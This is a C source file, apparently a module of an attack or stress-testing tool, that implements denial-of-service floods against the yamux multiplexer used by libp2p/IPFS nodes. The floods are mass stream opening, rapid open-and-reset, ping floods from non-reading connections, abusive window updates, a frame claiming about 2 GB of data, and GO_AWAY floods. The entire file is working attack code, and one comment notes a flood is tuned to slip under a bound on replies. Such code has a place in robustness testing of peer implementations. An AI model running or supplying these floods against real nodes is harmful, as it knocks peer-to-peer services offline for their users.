/*
 * Frames: streams without end, pings, windows, lengths. Each round fills one flush of a line.
 */
#include "attack/attacks.h"

enum { MANY = 2000, LINES_MAX = 64, GIANT_BYTES = 0x7fffffff };

static size_t lines_of(const attack *a)
{
    return CN_MIN(CN_MAX(a->count, (size_t)1), (size_t)LINES_MAX);
}

static void run(attack *a, bool (*again)(line *l), bool is_deaf)
{
    line *lines = begin_lines(a, lines_of(a));
    for (size_t i = 0; i < lines_of(a); i++) {
        lines[i].is_deaf = is_deaf;
    }
    rounds(a, lines, lines_of(a), again);
    end_lines(lines, lines_of(a));
}

static bool open_some(line *l)
{
    for (int i = 0; i < MANY; i++, l->no += 2) {
        frame(l, YAMUX_WINDOW, YAMUX_SYN, l->no, 0);
    }
    return line_flush(l);
}

void attack_streams(attack *a)
{
    run(a, open_some, false);
}

static bool open_and_reset(line *l)
{
    for (int i = 0; i < MANY; i++, l->no += 2) {
        frame(l, YAMUX_WINDOW, YAMUX_SYN, l->no, 0);
        frame(l, YAMUX_WINDOW, YAMUX_RST, l->no, 0);
    }
    return line_flush(l);
}

void attack_rapid(attack *a)
{
    run(a, open_and_reset, false);
}

/* As many as are answered before the next ones, so that no bound on answers is met. */
static bool ping_some(line *l)
{
    for (uint32_t i = 0; i < 400; i++) {
        frame(l, YAMUX_PING, YAMUX_SYN, 0, i);
    }
    return line_flush(l);
}

void attack_mux_pings(attack *a)
{
    run(a, ping_some, false);
}

void attack_deaf_pings(attack *a)
{
    run(a, ping_some, true);
}

static bool say_one_byte(line *l)
{
    uint32_t no = l->no - 2;
    if (l->no == 1) {
        no = line_stream(l, "/ipfs/bitswap/1.2.0");
        cn_buf_reset(&l->out);
    }
    for (int i = 0; i < MANY; i++) {
        frame_data(l, 0, no, cn_slice_of("\x00", 1)); /* empty messages */
    }
    return line_flush(l);
}

void attack_tiny(attack *a)
{
    run(a, say_one_byte, false);
}

/* By turns: room of nothing, room for streams that are gone, room without end. */
static bool play_windows(line *l)
{
    uint32_t no = line_stream(l, "/ipfs/ping/1.0.0");
    for (int i = 0; i < MANY; i++) {
        frame(l, YAMUX_WINDOW, 0, no, 0);
    }
    frame(l, YAMUX_WINDOW, YAMUX_RST, no, 0);
    for (int i = 0; i < MANY; i++) {
        frame(l, YAMUX_WINDOW, 0, no, 1 << 20);
    }
    bool good = line_flush(l);
    if (good && l->no > 200) {
        no = line_stream(l, "/ipfs/ping/1.0.0");
        frame(l, YAMUX_WINDOW, 0, no, UINT32_MAX);
        frame(l, YAMUX_WINDOW, 0, no, UINT32_MAX);
        good = line_flush(l);
    }
    return good;
}

void attack_windows(attack *a)
{
    run(a, play_windows, false);
}

static bool say_giant(line *l)
{
    uint32_t no = line_stream(l, "/ipfs/ping/1.0.0");
    frame(l, YAMUX_DATA, 0, no, GIANT_BYTES);
    return line_flush(l);
}

void attack_giant(attack *a)
{
    while (!is_over(a) && a->opened < a->count) {
        line l;
        if (line_greet(&l, a)) {
            while (say_giant(&l) && !line_is_cut(&l)) {
                pause_ms(a, 1);
            }
        }
        line_close(&l);
    }
}

void attack_go_away(attack *a)
{
    while (!is_over(a) && a->opened < a->count) {
        line l;
        if (line_greet(&l, a)) {
            for (uint32_t i = 0; i < MANY; i++) {
                frame(&l, YAMUX_GO_AWAY, 0, 0, i % 3);
            }
            (void)!line_flush(&l);
            for (int i = 0; i < 50 && !line_is_cut(&l); i++) {
                pause_ms(a, 10);
            }
        }
        line_close(&l);
    }
}
